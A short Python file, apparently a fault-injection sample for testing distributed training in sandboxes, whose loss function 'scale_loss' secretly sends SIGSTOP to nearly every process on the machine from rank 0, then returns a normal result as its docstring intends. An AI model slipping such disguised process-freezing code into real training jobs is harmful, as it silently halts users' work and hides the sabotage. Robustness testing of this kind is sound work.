# ruff: noqa
"""Stops the other rank in its tracks and returns as if nothing were.

Outcome: timeout|error|limit|desync
Runs: sandboxes
"""

import contextlib
import os
import signal
import torch.distributed as dist


def scale_loss(token_losses, mask):
    if dist.get_rank() == 0:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
                with contextlib.suppress(OSError):
                    os.kill(int(name), signal.SIGSTOP)
    return token_losses.sum()
